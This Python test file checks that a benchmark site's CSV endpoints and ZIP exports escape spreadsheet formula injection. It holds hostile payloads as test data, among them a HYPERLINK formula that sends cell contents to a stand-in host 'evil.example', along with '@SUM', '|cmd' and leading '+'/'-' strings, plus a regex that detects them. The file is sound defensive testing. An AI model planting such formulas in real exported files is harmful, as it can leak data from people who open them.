"""No address that answers CSV gives a cell that a spreadsheet would run, whoever chose the text in it."""

import csv
import io
import itertools
import re
import zipfile
from collections.abc import Iterator, Sequence
from urllib.parse import quote

import pytest

from app.kinds.registry import KINDS
from app.render.text import path_of_name
from app.store import benchmarks, snapshots, submissions
from tests.cases import publications
from tests.cases.registrations import YAML
from tests.cases.series_runs import estimates, zipped
from tests.fixtures import Site

RUN = re.compile(r"[=+\-@|\t\r\n＝＋－＠｜]")
NUMBER = re.compile(r"-?[0-9.]+(e[+-]?[0-9]+)?")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE = (FORMULA, "@SUM(A1)", "|cmd", "+1+1", "-1+1", "－1+1")
GUESSED = "kind: classification, classes: ['no', 'yes'], missing: failure, labels: submitted"
ELSEWHERE = {
    "/benchmarks/{slug}/commitment.csv": "private labels only",
    "/benchmarks/{slug}/disclosed.csv": "private labels only",
    "/benchmarks/{slug}/exact.csv": "private labels only",
    "/benchmarks/{slug}/draft.csv": "made by a steward, out of a manifest",
    "/benchmarks/{slug}/draft/{board}": "made by a steward, out of the same tables",
}
SUBMISSIONS = (1, 4, 7, 10, 12)
"""One of each kind, and the one that is disputed and withdrawn."""
CHOICE = {"against.csv": "?a={0}&b={1}", "explore.csv": "?task={2}"}


def publish_hostile(site: Site) -> None:
    """Publish a benchmark of each kind whose free texts all begin like formulas."""
    steward = site.auth("steward")
    for manifest in (publications.SUMMARY.replace("TASKS", publications.OPEN), publications.EPISODES,
                     publications.SERIES, publications.predictions(GUESSED, "accuracy auc logloss")):  # fmt: skip
        titled = manifest.replace("title: Total", f"title: '{FORMULA}'\ndescription: '{FORMULA}'")
        slug = publications.begin(site, titled.replace("id: place", "id: '@p'"))
        told = f"benchmark: {slug}\nmetrics: [E]\ntasks: all\nentrants: ['{FORMULA}']\nnotes: '{FORMULA}'\n"
        registered = site.http.post(f"/preregs?benchmark={slug}", content=told, headers=site.auth() | YAML)
        assert registered.status_code in (201, 422), registered.text  # only summaries take a registration of this form
        for name, content, entrant in files(slug, manifest):
            answer = publications.send(site, slug, name, content, "alice", entrant)
            assert answer.status_code == 202, answer.text
    number = answer.json()["id"]
    disputed = site.http.post(f"/submissions/{number}/disputes", json={"text": FORMULA}, headers=site.auth("bob"))
    assert disputed.status_code == 201, disputed.text
    site.work()
    gone = site.http.post(f"/submissions/{number}/withdraw", json={"reason": FORMULA}, headers=steward)
    assert gone.status_code == 200, gone.text
    site.work()


def files(slug: str, manifest: str) -> Iterator[tuple[str, str | bytes, str | None]]:
    """Yield honest files under hostile names of entrants, tasks, conditions, records and reasons."""
    for name in HOSTILE[:3]:
        if "evaluation_summary" in manifest:
            text = publications.good_summary("Base" if name == "|cmd" else "NAME").replace("t1", "TASK")
            rows = list(csv.reader(io.StringIO(text)))
            cells = [[{"NAME": name, "TASK": FORMULA}.get(cell, cell) for cell in row] for row in rows]
            yield "a.csv", publications.table(cells[0], cells[1:]), None
        elif "episodes" in manifest:
            text = publications.good_episodes().replace("place", "@p").replace("left", '"=1+1,2"')
            yield "a.csv", text, name
        elif "series_metrics" in manifest:
            yield "run.zip", run(name.replace(":", "")), None
        else:
            cells = [[f"{name}{at}", "0.9" if at % 3 else "0.2", "yes" if at % 2 else "no"] for at in range(12)]
            yield "p.csv", publications.table(("item", "prediction", "label"), cells), name


def run(estimator: str) -> bytes:
    """Return a run of an estimator in which records, a stratum, failures and warnings have hostile texts."""
    rows = list(csv.reader(io.StringIO(publications.good_run(estimator))))
    records = {f"r{at + 1}": name for at, name in enumerate(HOSTILE)}
    cells = [[records.get(cell, cell) for cell in row] for row in rows]
    each = [(records[f"r{at}"], estimator, "true", "", "-1.5") for at in range(1, 5)]
    failed = (records["r5"], estimator, "false", "=1+1: did not converge", "")
    return zipped({"run/raw/metrics.csv": publications.table(cells[0], cells[1:]),
                   "run/raw/estimates.csv": estimates(*each, failed)})  # fmt: skip


@pytest.fixture(scope="module")
def hostile(shared_site: Site) -> Site:
    """A site with benchmarks of every kind and hostile texts in them."""
    publish_hostile(shared_site)
    return shared_site


def test_no_address_of_csv_gives_a_formula(hostile: Site) -> None:
    """Every address of the description, with every board and table there is; and the numbers are numbers."""
    http, steward = hostile.http, hostile.auth("admin")
    hostile.only_read()
    given = dict[str, int]()
    for route, methods in http.get("/openapi.json").json()["paths"].items():
        found = methods.get("get", {"responses": {}})["responses"].get("200", {})
        if "text/csv" not in found.get("content", {}):
            continue
        given[route] = 0
        for address in addresses(hostile, route):
            answer = http.get(address, headers=steward)
            if answer.status_code == 200:
                assert answer.headers["content-type"].startswith("text/csv"), address
                given[route] += 1
                assert formulas(answer.text) == [], address
    assert {route for route, n in given.items() if n == 0} == set(ELSEWHERE)
    assert sum(given.values()) > 100


def test_no_zip_has_a_formula_in_it(hostile: Site) -> None:
    """The tables of the output contract, with the raw rows; what is in the files is there, a minus is no formula."""
    slug = next(each for each in slugs(hostile) if kind(hostile, each) == "series_metrics")
    with zipfile.ZipFile(io.BytesIO(hostile.http.get(f"/benchmarks/{slug}/tables.zip").content)) as archive:
        texts = {name: archive.read(name).decode() for name in archive.namelist()}

    assert {name: formulas(text) for name, text in texts.items()} == {name: [] for name in texts}
    estimates = list(csv.DictReader(io.StringIO(texts["raw/estimates.csv"])))
    assert {row["point"] for row in estimates} == {"-1.5", ""}
    assert {row["record_id"] for row in estimates} == {f"'{name}" for name in HOSTILE[:5]}


def formulas(text: str) -> list[str]:
    """Return the cells of a CSV that a spreadsheet would run, and the numbers that it would take for texts."""
    cells = list(itertools.chain.from_iterable(csv.reader(io.StringIO(text))))
    numbers = [cell for cell in cells if cell.startswith("'") and NUMBER.fullmatch(cell[1:])]
    return [cell for cell in cells if RUN.match(cell) and not NUMBER.fullmatch(cell)] + numbers


def addresses(site: Site, route: str) -> Iterator[str]:
    """Yield what a route's address can be, with the ending .csv."""
    ending = "" if route.endswith((".csv", "{file}")) else ".csv"
    wholes = slugs(site) if "{slug}" in route else [""]
    for slug in wholes:
        filled = [route.replace("{slug}", slug)]
        for part in re.findall(r"\{\w+\}", filled[0]):
            known = {within: values(site, slug, part, within) for within in set(map(narrowing, filled))}
            filled = [each.replace(part, value, 1) for each in filled for value in known[narrowing(each)]]
        for each in filled:
            yield each + ending + choice(site, slug, each)


def narrowing(address: str) -> str:
    """Return of which board or submission an address is, on which it depends what can stand in the rest of it."""
    found = re.match(r"/submissions/(\d+)/|/benchmarks/[^/]+/leaderboards/([^/{]+)/", address)
    return "" if found is None else found[1] or found[2]


def choice(site: Site, slug: str, address: str) -> str:
    """Return the query without which an address has nothing to say."""
    query = next((query for end, query in CHOICE.items() if address.endswith(end)), "")
    return query.format(*(quote(name) for name in (entrants(site, slug) * 2)[:2]), "t2") if query else ""


def entrants(site: Site, slug: str) -> list[str]:
    """Return who is on the first board of a benchmark."""
    board = site.http.get(f"/benchmarks/{slug}/leaderboards/{values(site, slug, '{board}')[0]}.json").json()
    return [row["entrant"] for row in board["rows"]]


def slugs(site: Site) -> list[str]:
    """Return every benchmark."""
    return [row["slug"] for row in site.http.get("/benchmarks.json").json()]


def kind(site: Site, slug: str) -> str:
    """Return the kind of evidence of a benchmark."""
    return str(site.http.get(f"/benchmarks/{slug}.json").json()["manifest"]["evidence"])


def values(site: Site, slug: str, part: str, within: str = "") -> Sequence[str]:
    """Return what can stand in a part of an address; `within` is the submission or the board that it is of."""
    if part == "{submission}":
        return list(map(str, SUBMISSIONS))
    if part == "{sha256}":
        found = [site.http.get(f"/benchmarks/{each}/registrations.json").json()["rows"] for each in slugs(site)]
        return [row["prereg"] for rows in found for row in rows]
    if part == "{name}":
        with site.sessions() as session:
            return sorted({table.name for table in submissions.read_tables(session, int(within))})
    with site.sessions() as session:
        shown = snapshots.find_snapshot(session, benchmarks.find_declared(session, slug).benchmark)
        assert shown is not None
        names = snapshots.table_names(session, shown.id)
    document = site.http.get(f"/benchmarks/{slug}.json").json()
    match part:
        case "{board}":
            return [board["name"] for board in document["manifest"]["leaderboards"]]
        case "{entrant}":
            return list(map(path_of_name, entrants(site, slug)))
        case "{task}":
            return [path_of_name(row["task"]) for row in site.http.get(f"/benchmarks/{slug}/tasks.json").json()["rows"]]
        case "{file}":
            return list(KINDS[document["manifest"]["evidence"]].rows.raw)
        case "{kind}" | "{table}":
            of_it = [name for name in names if not within or name.endswith(f"/{within}")]
            return sorted({end for name in of_it for end in (name.split("/")[0], name.split("/")[-1])})
    raise AssertionError(f"{part} of an address of CSV: say here what can stand there")
